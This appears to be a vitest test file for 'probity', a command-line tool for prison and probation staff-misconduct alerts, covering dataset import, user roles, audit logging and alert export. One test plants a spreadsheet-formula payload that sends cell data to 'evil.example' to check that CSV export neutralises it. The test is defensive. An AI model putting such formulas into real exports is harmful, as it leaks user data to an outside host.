import { execFile } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { describe, expect, it } from 'vitest';
import { BIN, probity } from '../../test/cli.ts';
import { copyDataset, readLines, VALID_FIXTURE, writeLines } from '../../test/dataset-helpers.ts';
import { openPglite } from '../db/index.ts';

/** Runs SQL on the embedded database of a data folder, between commands. */
async function sql<T>(dataDir: string, text: string): Promise<T[]> {
  const db = await openPglite(path.join(dataDir, 'pglite'));
  try {
    return (await db.query<T & Record<string, unknown>>(text)).rows;
  } finally {
    await db.close();
  }
}

describe('probity CLI', () => {
  it('explains itself and each command', async () => {
    // The one run as a user types it, in a process of its own; the rest run main() in this process.
    const help = await promisify(execFile)(process.execPath, [BIN, '--help']);
    expect(help.stdout).toMatch(/Usage: probity/);
    for (const command of ['serve', 'migrate', 'import']) expect(help.stdout).toContain(command);
    const importHelp = await probity(['import', '--help']);
    expect(importHelp.stdout).toMatch(/--report/);
  });

  it('imports a dataset, prints the summary table, and exits 1 naming the bad row', async () => {
    const dataDir = fs.mkdtempSync(path.join(os.tmpdir(), 'probity-cli-'));
    const ok = await probity(['import', VALID_FIXTURE], { PROBITY_DATA_DIR: dataDir });
    expect(ok.code).toBe(0);
    expect(ok.stdout).toMatch(/^file\s+rows\s+inserted\s+updated\s+unchanged\s+refused$/m);
    expect(ok.stdout).toMatch(/^presence\.csv\s+3\s+3\s+0\s+0\s+0$/m);

    const bad = copyDataset();
    const lines = readLines(bad, 'calls.csv');
    writeLines(bad, 'calls.csv', [lines[0]!, lines[1]!.replace('+01:00', '')]);
    const refused = await probity(['import', bad], { PROBITY_DATA_DIR: dataDir });
    expect(refused.code).toBe(1);
    expect(refused.stderr).toContain(
      'calls.csv:2: column start: got "2024-06-20T18:00:00", expected an ISO 8601 time',
    );
    expect(refused.stdout).toMatch(/^calls\.csv\s+1\s+0\s+0\s+0\s+1$/m);

    // Every imported file left one entry in the audit trail (26, then the 16 files before calls.csv
    // again); the refused file left none.
    const verified = await probity(['audit', 'verify'], { PROBITY_DATA_DIR: dataDir });
    expect(verified.code).toBe(0);
    // No server ran to chain them: every entry was pending.
    const pending = /^Pending entries chained first: (\d+)\.$/m.exec(verified.stdout)?.[1];
    expect(verified.stdout).toContain(`Audit trail intact: ${pending} entries.`);
    expect(verified.stdout).toMatch(/^Audit trail intact: 42 entries\.$/m);
    expect(verified.stdout).toMatch(/^Latest hash: [0-9a-f]{64}$/m);
    const again = await probity(['audit', 'verify'], { PROBITY_DATA_DIR: dataDir });
    expect(again.stdout).toMatch(/^Pending entries chained first: 0\.$/m);
  });

  it('gives one clear line for bad configuration and a missing folder', async () => {
    const config = await probity(['migrate'], { PORT: 'abc' });
    expect(config.code).toBe(1);
    expect(config.stderr.trim()).toMatch(/^probity: Invalid configuration: PORT: /);
    const missing = await probity(['import', '/no/such/folder'], {
      PROBITY_DATA_DIR: fs.mkdtempSync(path.join(os.tmpdir(), 'probity-cli-')),
    });
    expect(missing.code).toBe(1);
    expect(missing.stderr.trim()).toBe(
      'probity: /no/such/folder: got no such folder, expected a dataset folder',
    );
  });
});

describe('probity user', () => {
  it('adds, lists, changes the role of, disables and enables accounts, auditing each change', async () => {
    const env = { PROBITY_DATA_DIR: fs.mkdtempSync(path.join(os.tmpdir(), 'probity-users-')) };
    expect((await probity(['import', VALID_FIXTURE], env)).code).toBe(0);

    const added = await probity(
      ['user', 'add', 'sec.one', '--name', 'Sec One', '--role', 'security_analyst', '--establishment', 'XAA'],
      env,
    );
    expect(added.code).toBe(0);
    expect(added.stdout).toMatch(/Added sec\.one \(Security analyst\)\.\nPassword: \S{20}/);

    const noScope = await probity(
      ['user', 'add', 'sec.two', '--name', 'Sec Two', '--role', 'security_analyst'],
      env,
    );
    expect(noScope.code).toBe(1);
    expect(noScope.stderr).toContain('a security analyst needs at least one establishment');
    const badRole = await probity(['user', 'add', 'x.y', '--name', 'X', '--role', 'superuser'], env);
    expect(badRole.stderr).toContain('unknown role "superuser"');
    const badCode = await probity(
      ['user', 'set-role', 'sec.one', 'probation_manager', '--region', 'XAA'],
      env,
    );
    expect(badCode.stderr).toContain('no probation region has the code "XAA"');

    expect(
      (await probity(['user', 'set-role', 'sec.one', 'probation_manager', '--region', 'XPR'], env)).stdout,
    ).toContain('sec.one is now Probation manager.');
    expect((await probity(['user', 'disable', 'sec.one'], env)).code).toBe(0);
    const list = await probity(['user', 'list'], env);
    expect(list.stdout).toMatch(/^sec\.one\s+Sec One\s+probation_manager\s+XPR\s+disabled\s+never$/m);
    // Looking at the accounts is recorded, as on the web.
    expect(
      await sql(
        env.PROBITY_DATA_DIR,
        `SELECT actor, details->>'results' AS n FROM audit_log WHERE action = 'users.list'`,
      ),
    ).toEqual([{ actor: expect.stringMatching(/^cli:/), n: '1' }]);
    expect((await probity(['user', 'enable', 'nobody'], env)).stderr).toContain('no user is called "nobody"');

    const audit = await probity(['audit', 'verify'], env);
    expect(audit.code).toBe(0);
  });
});

describe('probity detect, alerts and evaluate', () => {
  it('raises alerts, prints them as a table, CSV or JSON, and refuses what it cannot evaluate', async () => {
    const env = { PROBITY_DATA_DIR: fs.mkdtempSync(path.join(os.tmpdir(), 'probity-detect-')) };
    expect((await probity(['import', VALID_FIXTURE], env)).code).toBe(0);
    const run = await probity(['detect', '--quiet'], env);
    expect(run.code).toBe(0);
    expect(run.stdout).toMatch(/^XAA\s+2024-\d\d-\d\d\s+2024-\d\d-\d\d\s+3\s+\d+\s+1\s+default$/m);
    const csv = await probity(['alerts', '--format', 'csv'], env);
    expect(csv.stdout.split('\n')[0]).toBe(
      'rank,alert_id,establishment,staff_id,subject,score,severity,indicators,summary',
    );
    expect(csv.stdout).toMatch(/^1,AL-\d+,XAA,S1001,prisoner:A1234BC,/m);
    // --all: every candidate in the same columns, marked raised or not.
    const all = (await probity(['alerts', '--all', '--format', 'csv'], env)).stdout.trim().split('\n');
    expect(all[0]).toBe(
      'rank,alert_id,establishment,staff_id,subject,score,severity,indicators,summary,raised',
    );
    expect(all.filter((l) => l.endsWith(',yes'))).toHaveLength(csv.stdout.trim().split('\n').length - 1);
    expect(all.slice(1).every((l) => /,(yes|no)$/.test(l))).toBe(true);
    const json = JSON.parse(
      (await probity(['alerts', '--format', 'json', '--limit', '1', '--baseline'], env)).stdout,
    );
    expect(json).toHaveLength(1);
    // Every listing is recorded: who looked at whom is suspected.
    const listings = await sql<{ format: string }>(
      env.PROBITY_DATA_DIR,
      `SELECT details->>'format' AS format FROM audit_log WHERE action = 'alerts.list' ORDER BY id`,
    );
    expect(listings.map((l) => l.format)).toEqual(['csv', 'csv', 'json']);
    // Imported text reaches the CSV as text, never as a spreadsheet formula.
    await sql(
      env.PROBITY_DATA_DIR,
      `UPDATE alerts SET summary = '=HYPERLINK("http://evil.example/?"&A1,"Open")', subject = '@SUM(1+1)'`,
    );
    const hostile = (await probity(['alerts', '--format', 'csv', '--limit', '1'], env)).stdout;
    expect(hostile).toMatch(/^1,AL-\d+,XAA,S1001,"'@SUM\(1\+1\)",[\d.]+,\w+,[^,]*,"'=HYPERLINK\(""http/m);
    expect((await probity(['alerts', '--format', 'xml'], env)).stderr).toContain(
      '--format: expected table, csv or json',
    );
    expect((await probity(['detect', '--establishment', 'NOPE'], env)).stderr).toContain(
      'no prison or probation region has the code "NOPE"',
    );
    const evaluation = await probity(['evaluate', VALID_FIXTURE], env);
    expect(evaluation.code).toBe(1);
    expect(evaluation.stderr).toMatch(/ground_truth\.json: ENOENT/);
  });
});
